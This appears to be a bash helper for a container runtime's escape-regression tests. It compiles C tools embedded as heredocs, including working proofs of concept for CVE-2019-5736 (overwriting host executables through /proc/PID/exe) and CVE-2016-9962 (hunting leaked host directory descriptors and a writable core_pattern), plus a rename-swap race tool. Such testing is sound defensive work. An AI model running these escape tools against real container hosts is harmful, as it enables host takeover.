# escape_helpers.bash — shared by tests/integration/escape*.bats and
# rootless.bats (load with `load escape_helpers`). It builds on common.bash,
# not on helpers.bash: these files keep cr's default config (no test mark,
# no snapshot of cr) and name their containers esc*.
#
# Debian packages (also listed in tests/integration/packages.txt):
#   busybox-static jq musl-tools libcap2-bin uidmap util-linux coreutils passwd
#
# Every test gets its own state root ($CR_ROOT) and bundle ($BUNDLE) under
# $BATS_TEST_TMPDIR; containers are named by esc_id and deleted in teardown,
# background processes we start are recorded with esc_bg and killed by pid.
#
# A .bats file uses:
#   load escape_helpers
#   setup_file() { esc_setup_file; }
#   setup() { esc_setup; }
#   teardown() { esc_teardown; }

source "${BASH_SOURCE[0]%/*}/common.bash"

CR=${CR:-$(cd "$BATS_TEST_DIRNAME/../.." && pwd)/out/cr}
ESC_ROOTFS=$BATS_FILE_TMPDIR/rootfs
ESC_TOOLS=$BATS_FILE_TMPDIR/tools

# ---------------------------------------------------------------- setup_file

# esc_setup_file: busybox rootfs template and the static test tools, once per file.
esc_setup_file() {
    esc_make_rootfs && esc_build_tools
}

esc_make_rootfs() {
    rm -rf "$ESC_ROOTFS"
    busybox_rootfs "$ESC_ROOTFS" proc sys dev mnt root || return 1
    echo "user:x:1000:1000:user:/tmp:/bin/sh" >>"$ESC_ROOTFS/etc/passwd"
    echo "user:x:1000:" >>"$ESC_ROOTFS/etc/group"
}

# esc_cc OUT SRC: a static binary (musl-gcc, else cc -static).
esc_cc() {
    local out=$1 src=$2
    if command -v musl-gcc >/dev/null; then
        musl-gcc -static -O1 -Wall -o "$out" "$src" && return 0
    fi
    cc -static -O1 -Wall -o "$out" "$src"
}

esc_build_tools() {
    mkdir -p "$ESC_TOOLS"
    esc_src_attack >"$ESC_TOOLS/attack.c"
    esc_src_probe >"$ESC_TOOLS/probe.c"
    esc_src_swap >"$ESC_TOOLS/swap.c"
    esc_src_fdscan >"$ESC_TOOLS/fdscan.c"
    local t
    for t in attack probe swap fdscan; do
        esc_cc "$ESC_TOOLS/$t" "$ESC_TOOLS/$t.c" || { echo "cannot compile $t.c" >&2; return 1; }
    done
    # the terminal tests' --console-socket receiver
    esc_cc "$ESC_TOOLS/console-recv" "$BATS_TEST_DIRNAME/console-recv.c" || { echo "cannot compile console-recv.c" >&2; return 1; }
}

# ---------------------------------------------------------------- per test

esc_setup() {
    CR_ROOT=$BATS_TEST_TMPDIR/state
    BUNDLE=$BATS_TEST_TMPDIR/bundle
    : >"$BATS_TEST_TMPDIR/.ids"
    : >"$BATS_TEST_TMPDIR/.bgpids"
    : >"$BATS_TEST_TMPDIR/.scratch"
    esc_make_bundle "$BUNDLE"
}

# esc_make_bundle DIR: rootfs copy + `cr spec`, no terminal, writable root,
# args `sleep 1000`.
esc_make_bundle() {
    local dir=$1
    mkdir -p "$dir"
    cp -a "$ESC_ROOTFS" "$dir/rootfs"
    "$CR" spec --bundle "$dir" 3>&- || { echo "cr spec --bundle $dir failed" >&2; return 1; }
    cfg_in "$dir" '.process.terminal = false | .root.readonly = false | .process.args = ["sleep", "1000"]'
}

# esc_symlinked_bundle PATH with|without: a fresh $BUNDLE whose rootfs PATH
# is a symlink to a new scratch host directory (holding host-file), with or
# without a mount namespace; prints the host directory.
esc_symlinked_bundle() {
    local h
    h=$(esc_scratch cr-esc-host) || return 1
    touch "$h/host-file"
    rm -rf "$BUNDLE"
    esc_make_bundle "$BUNDLE" || return 1
    rm -rf "${BUNDLE:?}/rootfs/$1"
    ln -s "$h" "$BUNDLE/rootfs/$1"
    if [[ $2 == without ]]; then
        cfg '.linux.namespaces |= map(select(.type != "mount"))' || return 1
    fi
    printf '%s\n' "$h"
}

# esc_id [TAG]: a fresh container id, deleted in teardown.
esc_id() {
    local run=${BATS_RUN_TMPDIR##*/}
    run=${run##*-}
    next_id "esc${run:0:6}-${BATS_SUITE_TEST_NUMBER:-$BATS_TEST_NUMBER}" "$@"
}

# esc_bg PID: a background process of ours, killed (by pid) in teardown.
esc_bg() { track bgpids "$1"; }

# esc_scratch [PREFIX]: a new directory under /tmp (not under the test dir,
# so that it looks like an unrelated host path), removed in teardown.
esc_scratch() { make_scratch "${1:-cr-esc}"; }

# set_sh SCRIPT: process.args = sh -c SCRIPT
set_sh() { set_args sh -c "$1"; }

# crr ARGS: cr with this test's state root (fd 3, bats' TAP stream, closed).
crr() { "${ESC_CR:-$CR}" --root "$CR_ROOT" "$@" 3>&-; }
# crc ARGS: crr for commands that leave a container running: its stdout and
# stderr go to files, so that no pipe is held open by the container.
crc() { "${ESC_CR:-$CR}" --root "$CR_ROOT" "$@" >>"$BATS_TEST_TMPDIR/ctr.out" 2>>"$BATS_TEST_TMPDIR/ctr.err" 3>&- </dev/null; }

# esc_create ID [OPTS]: create in $BUNDLE that must succeed.
esc_create() {
    local id=$1
    shift
    crc create --bundle "$BUNDLE" "$@" "$id" || { cat "$BATS_TEST_TMPDIR/ctr.err" >&2; echo "cr create $id failed" >&2; return 1; }
}
# esc_try_create ID: create in $BUNDLE that may fail; sets $status and
# $output (cr's stderr).
esc_try_create() {
    : >"$BATS_TEST_TMPDIR/ctr.err"
    status=0
    crc create --bundle "$BUNDLE" "$1" || status=$?
    output=$(cat "$BATS_TEST_TMPDIR/ctr.err")
}

# esc_run [OPTION...]: `cr run` of $BUNDLE in the foreground, under a fresh id
# (use with bats' run).
esc_run() { crr run --bundle "$BUNDLE" "$@" "$(esc_id)"; }

# esc_refused WORD...: after a failed run/create that is an acceptable
# answer to the attack: the error must be about the attack (mention one of
# WORDs), not some unrelated breakage that would make the test vacuous.
esc_refused() {
    local w
    for w; do [[ $output == *"$w"* ]] && return 0; done
    fail "refused for another reason than the attack (expected the error to mention one of: $*):" "$output"
}

# esc_exec_bounded ID ARGS...: `cr exec` that may fail but must return
# within 20 seconds; a hang is reported (with the process tree) and fails.
esc_exec_bounded() {
    local pid i
    "${ESC_CR:-$CR}" --root "$CR_ROOT" exec "$@" </dev/null >/dev/null 2>&1 3>&- &
    pid=$!
    for ((i = 0; i < 200; i++)); do
        kill -0 "$pid" 2>/dev/null || { wait "$pid" 2>/dev/null; return 0; }
        sleep 0.1
    done
    echo "# cr exec $* (pid $pid) did not return in 20s: $(esc_proc_line "$pid")" >&2
    local p
    for p in /proc/[0-9]*; do
        [[ $(awk '/^PPid:/ { print $2 }' "$p/status" 2>/dev/null) == "$pid" ]] && echo "#   child: $(esc_proc_line "${p#/proc/}")" >&2
    done
    ls -l "/proc/$pid/fd" >&2
    kill -9 "$pid" 2>/dev/null
    wait "$pid" 2>/dev/null
    return 1
}

# esc_proc_line PID: "pid state wchan cmdline" from /proc (no ps: out/bin,
# first in PATH, has a `ps` applet).
esc_proc_line() {
    local st cmd
    st=$(awk '/^State:/ { print $2 }' "/proc/$1/status" 2>/dev/null)
    cmd=$(tr '\0' ' ' <"/proc/$1/cmdline" 2>/dev/null)
    printf '%s %s %s %s\n' "$1" "$st" "$(cat "/proc/$1/wchan" 2>/dev/null)" "$cmd"
}

# esc_start_sleeping ID: create + start ($BUNDLE's args should block).
esc_start_sleeping() {
    esc_create "$1" && crr start "$1" && wait_status "$1" running
}

# host_mounts_at PATH: host mountinfo lines whose mount point is PATH or below.
host_mounts_at() { awk -v p="$1" '$5 == p || index($5, p "/") == 1' /proc/self/mountinfo; }

# ---------------------------------------------------------------- teardown

esc_teardown() {
    local id
    kill_tracked_bg
    for id in $(tracked ids); do
        "${ESC_CR:-$CR}" --root "$CR_ROOT" delete -f "$id" >/dev/null 2>&1 3>&- ||
            "$CR" --root "$CR_ROOT" delete -f "$id" >/dev/null 2>&1 3>&-
    done
    # mounts under the test directory and scratch dirs, deepest first
    umount_below "$BATS_TEST_TMPDIR"
    remove_scratch
}

# ---------------------------------------------------------------- C sources

# attack SECONDS: CVE-2019-5736. For SECONDS (or until /tmp/stop-attack
# exists), open /proc/PID/exe of every
# other process as O_PATH and hold it, and keep trying to reopen each held
# executable for writing through /proc/self/fd (that works as soon as the
# process has left it, unless it is sealed or read-only) and write into it.
# Its own executable and /bin/busybox (the container needs it) are left
# alone. Prints HOLDING (once per executable), OPENED-FOR-WRITE (once per
# executable) and WROTE lines.
esc_src_attack() {
    cat <<'EOF'
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
#define MAXH 1024
static struct { int fd, pid, opened, wrote; char link[256]; } held[MAXH];
static int nheld;
static struct stat skip[2];
static int same(const struct stat *a, const struct stat *b) { return a->st_dev == b->st_dev && a->st_ino == b->st_ino; }
static int known(const struct stat *st) {
    int i;
    struct stat s2;
    if (same(st, &skip[0]) || same(st, &skip[1])) return 1;
    for (i = 0; i < nheld; i++) if (fstat(held[i].fd, &s2) == 0 && same(st, &s2)) return 1;
    return 0;
}
static void try_write(int i) {
    static const char junk[] = "#!/bin/sh\necho CR_OVERWRITTEN_BY_CONTAINER\n";
    char p[64];
    int fd, k, flags[2] = { O_WRONLY | O_TRUNC, O_WRONLY | O_APPEND };
    snprintf(p, sizeof p, "/proc/self/fd/%d", held[i].fd);
    for (k = 0; k < 2; k++) {
        fd = open(p, flags[k] | O_CLOEXEC);
        if (fd < 0) continue;
        if (write(fd, junk, sizeof junk - 1) > 0) {
            printf("WROTE pid=%d exe=%s\n", held[i].pid, held[i].link);
            held[i].wrote++;
        } else if (!held[i].opened++)
            printf("OPENED-FOR-WRITE pid=%d exe=%s (write: %s)\n", held[i].pid, held[i].link, strerror(errno));
        close(fd);
    }
}
int main(int argc, char **argv) {
    int secs = argc > 1 ? atoi(argv[1]) : 10, self = getpid(), i;
    time_t end = time(NULL) + secs;
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (stat("/proc/self/exe", &skip[0]) < 0 || stat("/bin/busybox", &skip[1]) < 0) { perror("stat"); return 1; }
    printf("ATTACKING for %ds\n", secs);
    while (time(NULL) < end && access("/tmp/stop-attack", F_OK) != 0) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        if (!d) { perror("opendir /proc"); return 1; }
        while ((e = readdir(d))) {
            char p[64], link[256];
            struct stat st;
            int pid = atoi(e->d_name), fd;
            ssize_t n;
            if (pid <= 0 || pid == self) continue;
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            fd = open(p, O_PATH | O_CLOEXEC);
            if (fd < 0) continue;
            if (fstat(fd, &st) < 0 || known(&st) || nheld == MAXH) { close(fd); continue; }
            n = readlink(p, link, sizeof link - 1);
            link[n > 0 ? n : 0] = 0;
            held[nheld].fd = fd; held[nheld].pid = pid;
            snprintf(held[nheld].link, sizeof held[nheld].link, "%s", link);
            printf("HOLDING pid=%d exe=%s\n", pid, link);
            nheld++;
        }
        closedir(d);
        for (i = 0; i < nheld; i++) try_write(i);
    }
    printf("DONE held=%d\n", nheld);
    return 0;
}
EOF
}

# fdscan SECONDS MARKER: CVE-2016-9962. For SECONDS (or until
# /tmp/stop-attack exists), look through /proc/PID/fd/N of every other
# process for a directory that leads out of the container: the host's /proc
# (its sys/kernel/core_pattern opens for writing; nothing is written) or a
# host directory from which MARKER (an absolute host path) is reached by
# going up. Prints GOT once per pid/fd that is a directory, and HOST-PROC or
# ESCAPED lines for successes.
esc_src_fdscan() {
    cat <<'EOF'
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
static char seen[4096][40];
static int nseen, hits;
static const char *marker;
static int once(const char *key) {
    int i;
    for (i = 0; i < nseen; i++) if (!strcmp(seen[i], key)) return 0;
    if (nseen < 4096) snprintf(seen[nseen++], sizeof seen[0], "%s", key);
    return 1;
}
/* p: /proc/PID/fd/N, /proc/PID/cwd or /proc/PID/root */
static void check(const char *p) {
    char link[256], rel[512];
    struct stat st;
    int fd = open(p, O_PATH | O_CLOEXEC), w, k;
    ssize_t l;
    if (fd < 0) return;
    if (fstat(fd, &st) < 0 || !S_ISDIR(st.st_mode)) { close(fd); return; }
    l = readlink(p, link, sizeof link - 1);
    link[l > 0 ? l : 0] = 0;
    if (once(p)) printf("GOT %s -> %s\n", p, link);
    w = openat(fd, "sys/kernel/core_pattern", O_WRONLY | O_CLOEXEC);
    if (w >= 0) { printf("HOST-PROC %s -> %s: host core_pattern open for writing\n", p, link); close(w); hits++; }
    rel[0] = 0;
    for (k = 0; k < 16; k++) {
        char path[600];
        snprintf(path, sizeof path, "%s%s", rel, marker);
        if (fstatat(fd, path, &st, 0) == 0) { printf("ESCAPED %s -> %s: reached %s\n", p, link, path); hits++; break; }
        strcat(rel, "../");
    }
    close(fd);
}
int main(int argc, char **argv) {
    int secs = argc > 1 ? atoi(argv[1]) : 10, self = getpid();
    time_t end = time(NULL) + secs;
    marker = argc > 2 ? argv[2] : "nonexistent";
    setvbuf(stdout, NULL, _IOLBF, 0);
    while (*marker == '/') marker++;
    printf("SCANNING for %ds\n", secs);
    while (time(NULL) < end && access("/tmp/stop-attack", F_OK) != 0 && hits <= 20) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        if (!d) return 1;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            char p[64];
            DIR *fds;
            struct dirent *f;
            if (pid <= 0 || pid == self) continue;
            snprintf(p, sizeof p, "/proc/%d/cwd", pid);
            check(p);
            snprintf(p, sizeof p, "/proc/%d/root", pid);
            check(p);
            snprintf(p, sizeof p, "/proc/%d/fd", pid);
            if (!(fds = opendir(p))) continue;
            while ((f = readdir(fds))) {
                if (f->d_name[0] == '.') continue;
                snprintf(p, sizeof p, "/proc/%d/fd/%s", pid, f->d_name);
                check(p);
            }
            closedir(fds);
        }
        closedir(d);
    }
    printf("DONE hits=%d\n", hits);
    return 0;
}
EOF
}

# probe: calls keyctl, add_key, bpf and unshare(CLONE_NEWNET) and prints
# NAME=ok or NAME=ERRNO for each.
esc_src_probe() {
    cat <<'EOF'
#define _GNU_SOURCE
#include <errno.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>
static void show(const char *name, long r) {
    int e = errno;
    if (r >= 0) printf("%s=ok\n", name);
    else printf("%s=%s\n", name, e == EPERM ? "EPERM" : e == ENOSYS ? "ENOSYS" : e == EACCES ? "EACCES" :
                                  e == EINVAL ? "EINVAL" : e == ENOKEY ? "ENOKEY" : strerror(e));
}
int main(void) {
    char attr[128];
    memset(attr, 0, sizeof attr);
    show("keyctl", syscall(SYS_keyctl, 0L /* KEYCTL_GET_KEYRING_ID */, -3L /* session */, 0L));
    show("add_key", syscall(SYS_add_key, "user", "cr-probe", "x", 1L, -3L));
    /* BPF_MAP_CREATE with an all-zero (invalid) attr: EINVAL when allowed */
    show("bpf", syscall(SYS_bpf, 0L, attr, 64L));
    show("unshare", syscall(SYS_unshare, (long)CLONE_NEWNET));
    return 0;
}
EOF
}

# swap A B: exchange the names A and B atomically (renameat2
# RENAME_EXCHANGE) in a tight loop until killed, whatever each call returns.
esc_src_swap() {
    cat <<'EOF'
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(int argc, char **argv) {
    if (argc != 3) { fprintf(stderr, "usage: swap A B\n"); return 2; }
    /* EBUSY (one of them is a mount point here) is not an error: go on */
    for (;;) syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], 2 /* RENAME_EXCHANGE */);
}
EOF
}
